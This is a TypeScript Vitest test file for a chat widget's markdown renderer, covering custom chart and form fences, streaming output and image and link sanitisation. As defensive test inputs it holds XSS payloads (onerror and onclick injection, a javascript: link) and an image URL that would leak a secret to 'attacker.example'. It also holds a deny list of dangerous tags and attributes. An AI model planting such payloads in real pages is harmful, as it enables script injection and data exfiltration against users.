// @vitest-environment jsdom
import { describe, expect, test, vi } from 'vitest';
import { Lexer, marked } from 'marked';
import { createLiveRender, fallbackBlock, renderFinal, renderProvisional, warmUp } from './markdown';
import { en } from '../ui/i18n/i18n';
import { strings as ar } from '../ui/i18n/ar';
import { strings as es } from '../ui/i18n/es';
import { strings as ja } from '../ui/i18n/ja';
import { strings as zh } from '../ui/i18n/zh-CN';
import { ALLOWED_ATTR, ALLOWED_TAGS, ATTRIBUTES_BY_TAG } from './markdown-policy';
import { MARKDOWN_CASES } from './fixtures/markdown-corpus';
import { anyHttpsImage } from './fixtures/image-policies';
import { imagePolicy } from './image-origins';

const REGISTERED = new Set(['bailing-chart', 'bailing-form']);
const isRendererType = (type: string): boolean => REGISTERED.has(type);

function mount(fragment: DocumentFragment): HTMLDivElement {
  const root = document.createElement('div');
  root.append(fragment);
  return root;
}
/** innerHTML without the newlines marked puts between block tags. */
const html = (fragment: DocumentFragment): string => mount(fragment).innerHTML.replace(/>\n+</g, '><').trim();
/** Tag names of the top-level children, with `data-type` for placeholders. */
const outline = (root: Element): string[] =>
  [...root.children].map((el) => (el.classList.contains('bc-rich') ? `rich:${el.getAttribute('data-type')}` : el.localName));

describe('markdown corpus (final reply)', () => {
  test.each(MARKDOWN_CASES)('$title', ({ input, expected }) => {
    expect(html(renderFinal(input, { isRendererType: () => false, images: anyHttpsImage }).fragment)).toBe(expected);
  });
});

describe('markdown corpus (streaming) matches the final reply except for images', () => {
  test.each(MARKDOWN_CASES.filter((c) => !c.input.includes('![')))('$title', ({ input, expected }) => {
    expect(html(renderProvisional(input))).toBe(expected);
  });
});

describe('rich fences in the final reply', () => {
  test('a closed registered fence becomes a placeholder with the exact source', () => {
    const source = '{\n  "kind": "bar",\n  "data": [{"label": "<b>a</b>", "value": 1}]\n}';
    const { fragment, blocks } = renderFinal('Sales:\n\n```bailing-chart\n' + source + '\n```\n\nDone.', { isRendererType });
    const root = mount(fragment);
    expect(outline(root)).toEqual(['p', 'rich:bailing-chart', 'p']);
    expect(blocks).toHaveLength(1);
    expect(blocks[0]!.type).toBe('bailing-chart');
    expect(blocks[0]!.source).toBe(source);
    expect(blocks[0]!.placeholder).toBe(root.children[1]);
    expect(blocks[0]!.placeholder.outerHTML).toBe('<div class="bc-rich" data-type="bailing-chart"></div>');
    expect(root.querySelector('pre')).toBeNull();
  });

  test('the source keeps blank lines, trailing spaces, tabs and shorter inner fences', () => {
    const source = 'line one  \n\n\tindented\n``` not a closer\n~~~\nlast';
    const { blocks } = renderFinal('````bailing-form\n' + source + '\n````', { isRendererType });
    expect(blocks.map((b) => b.source)).toEqual([source]);
  });

  test('CRLF line endings: the source has LF line endings', () => {
    const { blocks } = renderFinal('```bailing-chart\r\n{"a":1,\r\n"b":2}\r\n```\r\n', { isRendererType });
    expect(blocks.map((b) => b.source)).toEqual(['{"a":1,\n"b":2}']);
  });

  test('a fence indented by its opener loses that indentation (CommonMark 4.5)', () => {
    const { blocks } = renderFinal('  ```bailing-chart\n  {"a":\n    1}\n  ```', { isRendererType });
    expect(blocks.map((b) => b.source)).toEqual(['{"a":\n  1}']);
  });

  const CODE_NOT_RICH: readonly { title: string; input: string }[] = [
    { title: 'opened with ``` and "closed" with ~~~', input: '```bailing-chart\n{}\n~~~\n\nafter' },
    { title: 'opened with ```` and "closed" with ```', input: '````bailing-chart\n{}\n```\n\nafter' },
    { title: 'left open at the end of the reply', input: 'before\n\n```bailing-chart\n{"data": [' },
    { title: 'left open, ending with a newline', input: '```bailing-chart\n{}\n' },
    { title: 'the opener alone at the very end', input: 'before\n\n```bailing-chart' },
    { title: '"closed" by a line with an info string', input: '```bailing-chart\n{}\n``` done' },
    { title: 'indented code that looks like a fence', input: 'para\n\n    ```bailing-chart\n    {}\n    ```' },
    { title: 'unknown type', input: '```bailing-unknown\n{}\n```' },
    { title: 'type matched exactly (case)', input: '```Bailing-Chart\n{}\n```' },
    { title: 'left open inside a blockquote', input: '> ```bailing-chart\n> {}\n\nafter' },
  ];

  test.each(CODE_NOT_RICH)('stays a code block: $title', ({ input }) => {
    const { fragment, blocks } = renderFinal(input, { isRendererType });
    const root = mount(fragment);
    expect(blocks).toEqual([]);
    expect(root.querySelector('.bc-rich, div')).toBeNull();
    expect(root.querySelector('pre > code')).not.toBeNull();
  });

  test('an unclosed registered fence is an ordinary code block with its language class', () => {
    const root = mount(renderFinal('```bailing-chart\n{"kind":', { isRendererType }).fragment);
    expect(root.innerHTML).toBe('<pre><code class="language-bailing-chart">{"kind":\n</code></pre>');
  });

  test('a closer longer than the opener closes the fence', () => {
    const { fragment, blocks } = renderFinal('```bailing-chart\n{}\n``````\n\nafter', { isRendererType });
    expect(blocks.map((b) => [b.type, b.source])).toEqual([['bailing-chart', '{}']]);
    expect(outline(mount(fragment))).toEqual(['rich:bailing-chart', 'p']);
  });

  test('tilde fences work too', () => {
    const { blocks } = renderFinal('~~~bailing-form\n{"fields": []}\n~~~', { isRendererType });
    expect(blocks.map((b) => b.source)).toEqual(['{"fields": []}']);
  });

  test('an info string with extra words: the first word is the type', () => {
    const seen: string[] = [];
    const { blocks } = renderFinal('```bailing-chart extra words\n{}\n```', {
      isRendererType: (type) => (seen.push(type), isRendererType(type)),
    });
    expect(seen).toEqual(['bailing-chart']);
    expect(blocks.map((b) => b.type)).toEqual(['bailing-chart']);
  });

  test('isRendererType is only asked about closed fences with an info string', () => {
    const spy = vi.fn(isRendererType);
    renderFinal('```\nno info\n```\n\n    indented\n\n```bailing-chart\nopen', { isRendererType: spy });
    expect(spy).not.toHaveBeenCalled();
  });

  test('two blocks keep their order between paragraphs', () => {
    const input = 'one\n\n```bailing-chart\nA\n```\n\ntwo\n\n```bailing-form\nB\n```\n\nthree\n\n```bailing-chart\nC\n```';
    const { fragment, blocks } = renderFinal(input, { isRendererType });
    const root = mount(fragment);
    expect(outline(root)).toEqual(['p', 'rich:bailing-chart', 'p', 'rich:bailing-form', 'p', 'rich:bailing-chart']);
    expect(blocks.map((b) => `${b.type}:${b.source}`)).toEqual(['bailing-chart:A', 'bailing-form:B', 'bailing-chart:C']);
    expect(blocks.map((b) => b.placeholder)).toEqual([...root.querySelectorAll('.bc-rich')]);
  });

  test('a registered fence next to an unknown one and an open one', () => {
    const input = '```js\ncode\n```\n\n```bailing-chart\nA\n```\n\n```bailing-chart\nopen';
    const { fragment, blocks } = renderFinal(input, { isRendererType });
    expect(outline(mount(fragment))).toEqual(['pre', 'rich:bailing-chart', 'pre']);
    expect(blocks.map((b) => b.source)).toEqual(['A']);
  });

  test('fences nested in a list item and a blockquote stay in place', () => {
    const input = '1. Step one:\n\n   ```bailing-chart\n   A\n   ```\n\n2. Step two\n\n> ```bailing-form\n> B\n> ```';
    const { fragment, blocks } = renderFinal(input, { isRendererType });
    const root = mount(fragment);
    expect(blocks.map((b) => b.source)).toEqual(['A', 'B']);
    expect(blocks[0]!.placeholder.parentElement!.localName).toBe('li');
    expect(blocks[0]!.placeholder.previousElementSibling!.textContent).toBe('Step one:');
    expect(blocks[1]!.placeholder.parentElement!.localName).toBe('blockquote');
  });

  test('placeholders belong to the page document and are empty', () => {
    const { fragment, blocks } = renderFinal('```bailing-chart\n<img src=x onerror=alert(1)>\n```', { isRendererType });
    expect(fragment.ownerDocument).toBe(document);
    expect(blocks[0]!.placeholder.ownerDocument).toBe(document);
    expect(blocks[0]!.placeholder.childNodes).toHaveLength(0);
    expect(blocks[0]!.source).toBe('<img src=x onerror=alert(1)>');
  });

  test('images load only where the image policy allows: none by default', () => {
    const input = '![chart](https://img.example.com/c.png) ![pixel](https://attacker.example/p.gif?d=secret) ![local](http://127.0.0.1:8787/uploads/a.png)';
    const off = mount(renderFinal(input, { isRendererType }).fragment);
    expect(off.querySelector('img, [src], a')).toBeNull();
    expect(off.textContent!.trim()).toBe('[image: chart] [image: pixel] [image: local]');
    // The detector: the same answer under the widest policy does have images.
    expect(mount(renderFinal(input, { isRendererType, images: anyHttpsImage }).fragment).querySelectorAll('img')).toHaveLength(2);
    const listed = mount(renderFinal(input, { isRendererType, images: imagePolicy(['https://img.example.com']) }).fragment);
    expect([...listed.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual(['https://img.example.com/c.png']);
    expect(listed.textContent).toContain('[image: pixel]');
  });

  // The label of an image not loaded is in the widget's language, final and live alike.
  test.each([
    ['en', en],
    ['zh-CN', zh],
    ['ar', ar],
    ['es', es],
    ['ja', ja],
  ])('an image not loaded is labelled in %s', (_lang, words) => {
    const input = '![cat $& $1](https://img.example.com/cat.png) ![](https://img.example.com/x.png)';
    const expected = [words.imageLabel.replace('{alt}', () => 'cat $& $1'), words.imageNoAlt];
    const spans = (root: Element) => [...root.querySelectorAll('span')].map((span) => span.textContent);
    expect(spans(mount(renderFinal(input, { isRendererType, words }).fragment))).toEqual(expected);
    const live = document.createElement('div');
    createLiveRender(live, () => {}, undefined, undefined, words).update(input);
    expect(spans(live)).toEqual(expected);
    // Every language has its own words, and the alt text is in them as written ($& is no pattern).
    expect(expected[0]).toContain('cat $& $1');
    if (words !== en) expect(expected).not.toContain('[image]');
  });
});

describe('streaming (provisional) render', () => {
  test('registered fences render as code: nothing mounts before done', () => {
    const root = mount(renderProvisional('a\n\n```bailing-chart\n{"kind":"bar"}\n```\n\nb'));
    expect(root.querySelector('.bc-rich, div')).toBeNull();
    expect(outline(root)).toEqual(['p', 'pre', 'p']);
    expect(root.querySelector('code')!.className).toBe('language-bailing-chart');
    expect(root.querySelector('code')!.textContent).toBe('{"kind":"bar"}\n');
  });

  test('an open fence at the tail shows as a plain code block', () => {
    const root = mount(renderProvisional('Here:\n\n```bailing-form\n{"fields": [\n  {"id": "na'));
    expect(outline(root)).toEqual(['p', 'pre']);
    expect(root.querySelector('pre > code')!.textContent).toBe('{"fields": [\n  {"id": "na\n');
  });

  test('images are alt text: no <img>, no src anywhere', () => {
    const input = [
      '![cat](https://img.example.com/cat.png)',
      '![](https://img.example.com/x.png)',
      '[![logo](https://img.example.com/l.png)](https://example.com/)',
      '![ref][r]',
      '| ![in cell](https://img.example.com/t.png) |\n|---|\n| x |',
      '[r]: https://img.example.com/r.png',
    ].join('\n\n');
    const root = mount(renderProvisional(input));
    expect(root.querySelectorAll('img')).toHaveLength(0);
    expect(root.querySelectorAll('[src], [srcset]')).toHaveLength(0);
    expect([...root.querySelectorAll('span')].map((s) => s.textContent)).toEqual([
      '[image: cat]',
      '[image]',
      '[image: logo]',
      '[image: ref]',
      '[image: in cell]',
    ]);
    // The link around an image is still a link.
    expect(root.querySelector('a')!.getAttribute('href')).toBe('https://example.com/');
  });

  test('opts are accepted and change nothing', () => {
    const input = '![a](https://img.example.com/a.png)\n\n```bailing-chart\n{}\n```';
    expect(html(renderProvisional(input, { isRendererType, images: anyHttpsImage }))).toBe(html(renderProvisional(input)));
  });

  test('the same links and raw-HTML policy as the final reply', () => {
    const root = mount(renderProvisional('[ok](https://example.com/) [bad](javascript:alert(1)) <b>x</b>'));
    expect(root.innerHTML).toBe(
      '<p><a href="https://example.com/" target="_blank" rel="noopener noreferrer nofollow">ok</a> bad &lt;b&gt;x&lt;/b&gt;</p>',
    );
  });
});

describe('fallbackBlock', () => {
  test('is a code block whose content is text', () => {
    const el = fallbackBlock('bailing-chart', '<img src=x onerror=alert(1)>\n{"a": 1}');
    expect(el.outerHTML).toBe(
      '<pre class="bc-code"><code data-language="bailing-chart">&lt;img src=x onerror=alert(1)&gt;\n{"a": 1}</code></pre>',
    );
    expect(el.querySelector('code')!.children).toHaveLength(0);
    expect(el.ownerDocument).toBe(document);
  });

  test('a hostile type stays an attribute value', () => {
    const el = fallbackBlock('x" onclick="alert(1)', 'src');
    expect(el.querySelector('code')!.getAttribute('data-language')).toBe('x" onclick="alert(1)');
    expect(el.querySelector('code')!.getAttributeNames()).toEqual(['data-language']);
  });
});

describe('isolation from the host page', () => {
  test('the global marked keeps its defaults', () => {
    renderFinal('<b>x</b>', { isRendererType });
    expect(marked.parse('<b>x</b>', { async: false })).toBe('<p><b>x</b></p>\n');
  });
});

describe('policy data', () => {
  test('lists are frozen', () => {
    for (const value of [ALLOWED_TAGS, ALLOWED_ATTR, ATTRIBUTES_BY_TAG, ...Object.values(ATTRIBUTES_BY_TAG)]) {
      expect(Object.isFrozen(value)).toBe(true);
    }
  });

  test('dangerous tags and attributes are not allowed', () => {
    const tags = ['script', 'style', 'form', 'input', 'button', 'textarea', 'select', 'iframe', 'object', 'embed', 'svg', 'math',
      'template', 'link', 'meta', 'base', 'audio', 'video', 'source', 'noscript', 'details', 'summary'];
    expect(ALLOWED_TAGS.filter((t) => tags.includes(t))).toEqual([]);
    const attrs = ['id', 'name', 'style', 'srcset', 'target', 'rel', 'onerror', 'onclick', 'action', 'formaction', 'xlink:href'];
    expect(ALLOWED_ATTR.filter((a) => attrs.includes(a))).toEqual([]);
    expect(ALLOWED_ATTR.filter((a) => /^(data|aria)-/.test(a))).toEqual([]);
  });
});

test('warmUp lexes its texts ahead of the first answer: one per idle moment, none in the calling task, once per page', () => {
  vi.useFakeTimers();
  const lex = vi.spyOn(Lexer.prototype, 'lex');
  try {
    warmUp();
    warmUp();
    expect(lex).not.toHaveBeenCalled();
    vi.advanceTimersToNextTimer();
    expect(lex).toHaveBeenCalledTimes(1);
    expect(lex).toHaveBeenLastCalledWith('a');
    vi.runAllTimers();
    expect(lex).toHaveBeenCalledTimes(3);
    warmUp();
    vi.runAllTimers();
    expect(lex).toHaveBeenCalledTimes(3);
  } finally {
    lex.mockRestore();
    vi.useRealTimers();
  }
});
